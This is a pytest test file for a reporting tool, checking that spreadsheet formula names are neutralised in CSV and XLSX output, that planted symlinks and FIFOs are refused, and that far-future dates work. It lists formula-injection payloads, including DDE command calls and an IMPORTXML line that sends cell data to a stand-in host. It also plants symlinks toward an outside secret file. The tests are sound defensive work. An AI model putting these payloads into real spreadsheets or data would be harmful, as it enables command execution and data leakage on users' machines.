"""Hostile text and planted symlinks against what the tool writes (issue 10).

* Spreadsheet formulas: names that a spreadsheet would run (``=HYPERLINK(...)``,
  ``=cmd|' /C calc'!A0``, ``+1+1``, ``@SUM(A1)``, full-width ``＝1+1``...) reach
  ``graphmodel gaps --format csv``, the report's ``gaps.csv`` and ``gaps.xlsx`` inert:
  a ``'`` before them in CSV, text cells with Excel's quote prefix in the workbook,
  never a formula cell. Numbers (also negative ones) stay numbers.
* Planted symlinks (and FIFOs, hard links) where the report keeps its own files
  (``.lock``, ``report.log``, ``latest``, ``latest.txt``, a report folder): exit 2, a
  message naming the entry, and what the link points to is left exactly as it was.
* Dates up to 9999-12-31 in the data and as ``--as-of``: the whole report is written.

Every case also checks that the command raised nothing (no traceback) and that nothing
outside the output folder changed.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from contextlib import redirect_stdout
from pathlib import Path

import pandas as pd
import pytest
from conftest import minimal_tables, write_dataset

from graphmodel import load_dataset, report
from graphmodel.cli import main
from graphmodel.gaps import GAP_COLUMNS, findings_to_csv

AS_OF = "2026-11-29"
REPO = Path(__file__).resolve().parents[1]

# (payload, what the tables hold once read: the reader strips spaces at the edges)
FORMULAS = [
    ('=HYPERLINK("http://x","y")', '=HYPERLINK("http://x","y")'),
    ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
    ("+1+1", "+1+1"),
    ("-2+3", "-2+3"),
    ("@SUM(A1)", "@SUM(A1)"),
    ("\t=1", "=1"),
    ("\r=1", "=1"),
    ("＝1+1", "＝1+1"),
    (" =1", "=1"),
    ("＋1", "＋1"),
    ("－1+1", "－1+1"),
    ("＠SUM(A1)", "＠SUM(A1)"),
    ("\u3000=2", "=2"),
    ("  -1-1", "-1-1"),
    ('=DDE("cmd";"/C calc";"x")', '=DDE("cmd";"/C calc";"x")'),
    ('=IMPORTXML(CONCAT("http://x/?", A1), "//a")', '=IMPORTXML(CONCAT("http://x/?", A1), "//a")'),
    ("+cmd|' /C notepad'!A0", "+cmd|' /C notepad'!A0"),
    ("-1e3+A1", "-1e3+A1"),
]
"""Names a spreadsheet would run as a formula."""

INERT = ["-5", "+3.5", "1e3", "a=b", "甲-乙", "$\\frac{$", "foo[/bar]", "<b>x</b>&amp;"]
"""Names that must be written exactly as they are (numbers stay numbers)."""

_FORMULA_RE = re.compile(r"^[\s\u3000]*[=+\-@＝＋－＠]")
_NUMBER_RE = re.compile(r"^\s*[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?\s*$")


def live_formula(text: str) -> bool:
    """An independent check: would a spreadsheet run this CSV cell as a formula?"""
    if text[:1] in ("\t", "\r"):
        return True
    return bool(_FORMULA_RE.match(text)) and not _NUMBER_RE.match(text)


def snapshot(root: Path, skip: Path | None = None) -> dict[str, tuple[str, bytes, int]]:
    """Every entry under ``root`` (not following symlinks, not under ``skip``): kind,
    content (file bytes or link target) and mtime."""
    state: dict[str, tuple[str, bytes, int]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        here = Path(dirpath)
        if skip is not None and (here == skip or skip in here.parents):
            dirnames[:] = []
            continue
        for name in dirnames + filenames:
            path = here / name
            if skip is not None and path == skip:
                continue
            info = path.lstat()
            if path.is_symlink():
                state[str(path)] = ("link", os.readlink(path).encode(), info.st_mtime_ns)
            elif path.is_file():
                state[str(path)] = ("file", path.read_bytes(), info.st_mtime_ns)
            else:
                state[str(path)] = ("other", b"", info.st_mtime_ns)
    return state


def run_cli(args: list[str]) -> tuple[int, str]:
    """``graphmodel ARGS`` in process: (exit status, stdout). An exception (a traceback
    on the command line) fails the test."""
    buffer = io.StringIO()
    with redirect_stdout(buffer):
        rc = main(args)
    return rc, buffer.getvalue()


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# ---------------------------------------------------------------------------
# Formulas in names, through the command line and the report
# ---------------------------------------------------------------------------


def corpus_tables() -> dict[str, list[dict[str, object]]]:
    """The minimal dataset plus one unreached company per payload (C100...), and payloads
    as the names of a grid, a building, an area and a liaison group."""
    tables = minimal_tables()
    names = [p for p, _ in FORMULAS] + INERT
    for i, name in enumerate(names):
        tables["companies"].append({"id": f"C{100 + i}", "name": name, "building_id": "B1"})
    tables["grids"][0]["name"] = "=1+1 grid"
    tables["buildings"][0]["name"] = "@building"
    tables["residential_areas"][0]["name"] = "+area"
    tables["organizations"][1]["name"] = "-liaison+1"
    return tables


PLACED = {"=1+1 grid", "@building", "+area", "-liaison+1"}


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    root = tmp_path_factory.mktemp("formulas")
    data = write_dataset(root / "ds", corpus_tables())
    out = root / "out"
    before = snapshot(root)
    rc_gaps, gaps_csv = run_cli(["gaps", str(data), "--as-of", AS_OF, "--format", "csv"])
    rc_report, _ = run_cli(["report", str(data), "--out", str(out), "--as-of", AS_OF])
    after = snapshot(root, skip=out)
    stored = dict(zip(load_dataset(data)["companies"]["id"],
                      load_dataset(data)["companies"]["name"], strict=True))
    latest = report.latest_report(out)
    return {"root": root, "out": out, "before": before, "after": after, "rc_gaps": rc_gaps,
            "rc_report": rc_report, "gaps_csv": gaps_csv, "stored": stored, "latest": latest}


def company_id(name: str) -> str:
    names = [p for p, _ in FORMULAS] + INERT
    return f"C{100 + names.index(name)}"


def check_clean_run(corpus: dict[str, object]) -> None:
    assert corpus["rc_gaps"] == 0 and corpus["rc_report"] == 0
    assert corpus["after"] == corpus["before"], "something outside the output folder changed"
    assert corpus["latest"] is not None


def name_cells(rows: list[dict[str, str]], ident: str) -> list[str]:
    cells = [r["name"] for r in rows if r["id"] == ident]
    assert cells, f"no finding for {ident}"
    return cells


@pytest.mark.parametrize(("payload", "stored"), FORMULAS, ids=[repr(p) for p, _ in FORMULAS])
@pytest.mark.parametrize("source", ["gaps --format csv", "report gaps.csv"])
def test_formula_names_are_neutralised_in_csv(corpus, payload, stored, source):
    check_clean_run(corpus)
    text = (corpus["gaps_csv"] if source == "gaps --format csv"
            else (corpus["latest"] / "gaps.csv").read_text(encoding="utf-8"))
    assert corpus["stored"][company_id(payload)] == stored
    for cell in name_cells(csv_rows(text), company_id(payload)):
        assert cell == "'" + stored
        assert not live_formula(cell)


@pytest.mark.parametrize("payload", INERT)
@pytest.mark.parametrize("source", ["gaps --format csv", "report gaps.csv"])
def test_inert_names_and_numbers_are_written_as_they_are(corpus, payload, source):
    check_clean_run(corpus)
    text = (corpus["gaps_csv"] if source == "gaps --format csv"
            else (corpus["latest"] / "gaps.csv").read_text(encoding="utf-8"))
    assert name_cells(csv_rows(text), company_id(payload)) == [payload]


def test_no_live_formula_anywhere_in_the_csv_outputs(corpus):
    check_clean_run(corpus)
    texts = [corpus["gaps_csv"], (corpus["latest"] / "gaps.csv").read_text(encoding="utf-8")]
    assert texts[0] == texts[1]
    seen = set()
    for text in texts:
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not live_formula(cell), cell
                seen.add(cell)
    assert {"'" + p for p in PLACED} <= seen  # grid, building, area, liaison group names


@pytest.fixture(scope="module")
def workbook_cells(corpus) -> list[tuple[str, str, object, str, bool]]:
    from openpyxl import load_workbook

    wb = load_workbook(corpus["latest"] / "gaps.xlsx")
    return [(ws.title, cell.coordinate, cell.value, cell.data_type, bool(cell.quotePrefix))
            for ws in wb for row in ws.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize(("payload", "stored"), FORMULAS, ids=[repr(p) for p, _ in FORMULAS])
def test_formula_names_are_text_in_gaps_xlsx(corpus, workbook_cells, payload, stored):
    check_clean_run(corpus)
    cells = [c for c in workbook_cells if c[2] == stored]
    assert cells, f"{stored!r} is not in gaps.xlsx"
    for sheet, where, _value, kind, quoted in cells:
        assert kind == "s", (sheet, where, kind)  # text, never a formula
        assert quoted, (sheet, where)  # Excel's "text" flag: editing keeps it text


def test_gaps_xlsx_holds_no_formula_cell(corpus, workbook_cells):
    check_clean_run(corpus)
    assert not [c for c in workbook_cells if c[3] == "f"]
    for sheet, where, value, kind, quoted in workbook_cells:
        if isinstance(value, str) and live_formula(value):
            assert kind == "s" and quoted, (sheet, where, value)
    numbers = [c for c in workbook_cells if c[3] == "n"]
    assert numbers  # counts and row numbers stay numbers
    values = {c[2] for c in workbook_cells}
    assert values >= set(INERT) | PLACED


def test_report_html_escapes_markup(corpus):
    check_clean_run(corpus)
    page = (corpus["latest"] / "report.html").read_text(encoding="utf-8")
    assert "<b>x</b>" not in page and "&lt;b&gt;x&lt;/b&gt;&amp;amp;" in page


@pytest.mark.parametrize("payload", ["\t=1", "\r=1+1", "\t", " \t-1-1", "=A1\n=B2",
                                     "\n=1", "-3", -3, 2.5, None])
def test_findings_to_csv_neutralises_what_validation_would_strip(payload):
    """Values the reader never delivers (leading tab or CR, newlines) are still written
    inert by findings_to_csv; numbers stay numbers."""
    frame = pd.DataFrame([{"gap": "company_unreached", "id": "C1", "name": payload,
                           "grid_id": "G1", "grid_name": payload, "area_id": None,
                           "area_name": None, "detail": {"companies": -2}}],
                         columns=GAP_COLUMNS)
    rows = list(csv.reader(io.StringIO(findings_to_csv(frame), newline="")))
    header, cells = rows[0], rows[1]
    name = cells[header.index("name")]
    if isinstance(payload, str) and payload.strip(" ") not in ("", "-3"):
        # a carriage return in a cell is written as a newline (quoted), never bare
        assert name == ("'" + payload).replace("\r", "\n")
    elif payload is None:
        assert name == ""
    else:
        assert name == str(payload)
    assert all(not live_formula(c) for c in cells)
    assert json.loads(cells[header.index("detail")]) == {"companies": -2}


def test_odd_text_never_breaks_the_report(tmp_path):
    """Names the validator refuses (control characters, lone surrogates, U+FFFF) given to
    the report directly: every file is written, the workbook opens, nothing is raised."""
    from openpyxl import load_workbook

    data = write_dataset(tmp_path / "ds", minimal_tables())
    ds = load_dataset(data)
    ds["companies"].loc[0, "name"] = "bad\x1b[31m\x00\x07name\ud800\uffff"
    ds["companies"].loc[1, "name"] = "\t=HYPERLINK(\"http://x\")" + "长" * 40000
    ds["streets"].loc[0, "name"] = "街\x01道&P&N"
    ds["grids"].loc[0, "name"] = "grid\x0bname $\\frac{$"
    before = snapshot(tmp_path, skip=tmp_path / "out")
    result = report.build_report(ds, tmp_path / "out", AS_OF)
    assert snapshot(tmp_path, skip=tmp_path / "out") == before
    page = (result.path / "report.html").read_text(encoding="utf-8")
    assert "\x1b" not in page and "\x00" not in page
    wb = load_workbook(result.path / "gaps.xlsx")
    texts = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value.startswith("bad\ufffd[31m") for c in texts)
    long = [c for c in texts if c.value.startswith("\t=HYPERLINK")]
    assert long and all(len(c.value) <= 32767 and c.quotePrefix and c.data_type == "s"
                        for c in long)
    assert not [c for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    rows = csv_rows((result.path / "gaps.csv").read_text(encoding="utf-8"))
    assert all(not live_formula(v) for r in rows for v in r.values() if v)


# ---------------------------------------------------------------------------
# Planted symlinks, FIFOs and hard links in the report folder
# ---------------------------------------------------------------------------

FOLDER = "2026-01-01T000000_as-of-2026-01-01"


def _plant_link(name: str, target: str) -> Callable[[Path, Path], None]:
    def plant(out: Path, outside: Path) -> None:
        os.symlink(outside / target, out / name)
    return plant


def _plant_dangling(name: str) -> Callable[[Path, Path], None]:
    def plant(out: Path, outside: Path) -> None:
        os.symlink(outside / "created-through-link", out / name)
    return plant


def _plant_hardlink(out: Path, outside: Path) -> None:
    os.link(outside / "secret.txt", out / "report.log")


def _plant_fifo(name: str) -> Callable[[Path, Path], None]:
    def plant(out: Path, outside: Path) -> None:
        os.mkfifo(out / name)
    return plant


PLANTS = {
    ".lock -> file": (_plant_link(".lock", "secret.txt"), ".lock"),
    ".lock -> missing": (_plant_dangling(".lock"), ".lock"),
    "report.log -> file": (_plant_link("report.log", "secret.txt"), "report.log"),
    "report.log -> missing": (_plant_dangling("report.log"), "report.log"),
    "report.log hard link": (_plant_hardlink, "report.log"),
    "report.log fifo": (_plant_fifo("report.log"), "report.log"),
    ".lock fifo": (_plant_fifo(".lock"), ".lock"),
    "latest -> file": (_plant_link("latest", "secret.txt"), "latest"),
    "latest -> dir": (_plant_link("latest", "folder"), "latest"),
    "latest.txt -> file": (_plant_link("latest.txt", "secret.txt"), "latest.txt"),
    "run folder -> file": (_plant_link(FOLDER, "secret.txt"), FOLDER),
    "run folder -> dir": (_plant_link(FOLDER, "folder"), FOLDER),
}


def outside_tree(root: Path) -> Path:
    outside = root / "outside"
    (outside / "folder").mkdir(parents=True)
    (outside / "secret.txt").write_text("do not touch\n", encoding="utf-8")
    (outside / "folder" / "meta.json").write_text('{"dataset": "ds"}\n', encoding="utf-8")
    (outside / "folder" / "gaps.json").write_text("[]\n", encoding="utf-8")
    os.utime(outside / "secret.txt", ns=(1_000_000_000, 1_000_000_000))
    return outside


@pytest.mark.parametrize("case", list(PLANTS))
def test_planted_entries_never_redirect_writes(tmp_path, capsys, case):
    plant, entry = PLANTS[case]
    data = write_dataset(tmp_path / "ds", minimal_tables())
    outside = outside_tree(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    plant(out, outside)
    before = snapshot(tmp_path, skip=out)
    planted = snapshot(out)
    rc, stdout = run_cli(["report", str(data), "--out", str(out), "--as-of", AS_OF])
    err = capsys.readouterr().err
    assert rc == 2, err
    assert entry in err and "nothing was written" in err
    assert "Traceback" not in err + stdout
    assert snapshot(tmp_path, skip=out) == before  # the target is untouched
    assert not (outside / "created-through-link").exists()
    assert [p for p in out.iterdir() if report.FOLDER_RE.match(p.name)
            and not p.is_symlink()] == []  # no report was written
    for path, state in planted.items():  # the planted entry is left for a human to see
        assert snapshot(out).get(path) == state
    log = out / "report.log"
    if not log.is_symlink() and log.is_file() and log.stat().st_nlink == 1:
        assert "status=refused" in log.read_text(encoding="utf-8")


def test_run_works_again_once_the_planted_link_is_removed(tmp_path, capsys):
    data = write_dataset(tmp_path / "ds", minimal_tables())
    outside = outside_tree(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    os.symlink(outside / "secret.txt", out / "report.log")
    assert run_cli(["report", str(data), "--out", str(out), "--as-of", AS_OF])[0] == 2
    (out / "report.log").unlink()
    rc, _ = run_cli(["report", str(data), "--out", str(out), "--as-of", AS_OF])
    assert rc == 0, capsys.readouterr().err
    assert os.readlink(out / "latest") == report.latest_report(out).name
    assert (outside / "secret.txt").read_text(encoding="utf-8") == "do not touch\n"
    assert "status=ok" in (out / "report.log").read_text(encoding="utf-8")


def test_planted_lock_symlink_from_the_command_line(tmp_path):
    """The real command line: exit 2, one clear line, no traceback, target untouched."""
    data = write_dataset(tmp_path / "ds", minimal_tables())
    outside = outside_tree(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    os.symlink(outside / "secret.txt", out / ".lock")
    before = snapshot(tmp_path, skip=out)
    proc = subprocess.run([sys.executable, "-m", "graphmodel.report", str(data), "--out",
                           str(out), "--as-of", AS_OF], capture_output=True, text=True,
                          cwd=REPO, timeout=120)
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr and ".lock" in proc.stderr
    assert snapshot(tmp_path, skip=out) == before


def test_latest_report_ignores_links_the_tool_did_not_make(tmp_path):
    outside = outside_tree(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    os.symlink(outside / "folder", out / "latest")
    (out / "latest.txt").write_text("../outside/folder\n", encoding="utf-8")
    assert report.latest_report(out) is None
    os.symlink(outside / "folder", out / FOLDER)
    assert report.saved_reports(out) == []


# ---------------------------------------------------------------------------
# Dates up to 9999-12-31
# ---------------------------------------------------------------------------


def far_tables() -> dict[str, list[dict[str, object]]]:
    tables = minimal_tables()
    tables["companies"][0]["lease_expires"] = "9999-12-31"
    tables["links"][1]["until"] = "9999-12-31"
    tables["links"].append({"source_id": "O1", "type": "COVERS", "target_id": "G1",
                            "since": "2020-01-01", "until": "9999-12-31"})
    tables["visits"].append({"visitor_id": "P1", "target_id": "C2", "date": "9999-12-31",
                             "purpose": "走访"})
    tables["demands"].append({"id": "D2", "company_id": "C2", "raised_on": "9999-12-31",
                              "category": "招聘", "status": "open"})
    tables["risk_assessments"].append({"company_id": "C1", "assessed_on": "9999-12-31",
                                       "level": "红", "reason": "租约"})
    return tables


def check_report_files(path: Path) -> None:
    from openpyxl import load_workbook

    for name in ("report.html", "gaps.xlsx", "gaps.json", "gaps.csv", "meta.json",
                 *report.CHARTS):
        assert (path / name).is_file() and (path / name).stat().st_size, name
    for name in report.CHARTS:
        assert (path / name).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    load_workbook(path / "gaps.xlsx")
    csv_rows((path / "gaps.csv").read_text(encoding="utf-8"))
    json.loads((path / "gaps.json").read_text(encoding="utf-8"))


def test_report_as_of_9999_with_9999_dates(tmp_path, capsys):
    data = write_dataset(tmp_path / "ds", far_tables())
    out = tmp_path / "out"
    before = snapshot(tmp_path, skip=out)
    for as_of in (AS_OF, "9999-12-31", "9999-12-31"):  # history across both dates
        rc, _ = run_cli(["report", str(data), "--out", str(out), "--as-of", as_of])
        assert rc == 0, capsys.readouterr().err
    assert snapshot(tmp_path, skip=out) == before
    latest = report.latest_report(out)
    assert latest.name.endswith("_as-of-9999-12-31")
    check_report_files(latest)
    meta = json.loads((latest / "meta.json").read_text(encoding="utf-8"))
    assert meta["as_of"] == "9999-12-31"
    page = (latest / "report.html").read_text(encoding="utf-8")
    assert "9999-12-31" in page
    assert len(report.saved_reports(out)) == 3


def test_report_api_with_dates_past_pandas_nanoseconds(tmp_path):
    """The report itself, whatever the reader's date unit: 9999-12-31 in the typed
    tables (microseconds) and a follow-up deadline past year 9999."""
    data = write_dataset(tmp_path / "ds", minimal_tables())
    ds = load_dataset(data)
    for table in ds.tables.values():  # the unit the reader gives dates in pandas 3
        for column in table.columns:
            if pd.api.types.is_datetime64_any_dtype(table[column]):
                table[column] = table[column].astype("datetime64[us]")
    far = pd.Timestamp("9999-12-31").as_unit("us")
    companies = ds["companies"]
    companies["lease_expires"] = pd.Series([far] * len(companies), index=companies.index,
                                           dtype="datetime64[us]")
    links = ds["links"]
    links["until"] = pd.Series([far] * len(links), index=links.index, dtype="datetime64[us]")
    risk = ds["risk_assessments"]
    risk["assessed_on"] = pd.Series([far] * len(risk), index=risk.index,
                                    dtype="datetime64[us]")
    ds.tables["risk_assessments"] = risk
    result = report.build_report(ds, tmp_path / "out", "9999-12-31")
    check_report_files(result.path)
    page = (result.path / "report.html").read_text(encoding="utf-8")
    assert re.search(r"10000-01-\d\d", page)  # the deadline after 9999-12-31
